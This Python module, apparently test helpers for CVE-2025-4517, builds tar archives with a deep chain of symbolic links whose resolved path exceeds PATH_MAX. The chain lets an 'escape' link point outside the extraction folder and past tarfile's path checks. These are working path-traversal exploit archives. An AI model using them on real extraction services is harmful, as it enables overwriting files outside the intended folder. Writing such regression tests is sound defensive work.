"""Chains of symbolic links whose resolved path is longer than PATH_MAX, where a resolver may give up and trust the rest.

The links ``a/b/c...`` lead ever deeper through folders with the longest names; what comes behind them climbs up again,
one level further than the folder. (CVE-2025-4517)
"""

import gzip
import io
import os
import tarfile

STEPS = "abcdefghijklmnop"
LONG = "d" * 247
#: Behind the chain: another long name, so that the whole is longer than 4,096 bytes.
LAST = "l" * 254


def link(name, target):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info, b""


def hard_link(name, target):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.LNKTYPE, target
    return info, b""


def file(name, content=b"replaced"):
    info = tarfile.TarInfo(name)
    info.size = len(content)
    return info, content


def folder(name):
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    return info, b""


def out(outside):
    """The members that make ``escape`` a link to ``outside``, a path relative to the folder above the archive's own."""
    path, members = "", []
    for step in STEPS:
        members += [folder(f"{path}{LONG}"), link(f"{path}{step}", LONG)]
        path += f"{LONG}/"
    top = "/".join(STEPS) + "/" + LAST
    return [*members, link(top, "../" * len(STEPS)), link("escape", f"{top}/../{outside}")]


def write(path, members):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, content in members:
            tar.addfile(info, io.BytesIO(content))
    path.write_bytes(gzip.compress(buffer.getvalue()))
    return str(path)


def write_folder(base, levels=0):
    """Create the same chain in a directory; return the path through it to ``levels`` levels above."""
    descriptor = os.open(base, os.O_RDONLY)
    for step in STEPS:
        os.mkdir(LONG, dir_fd=descriptor)
        os.symlink(LONG, step, dir_fd=descriptor)
        below = os.open(LONG, os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = below
    os.symlink("../" * (len(STEPS) + levels), LAST, dir_fd=descriptor)
    os.close(descriptor)
    return f"{'/'.join(STEPS)}/{LAST}"
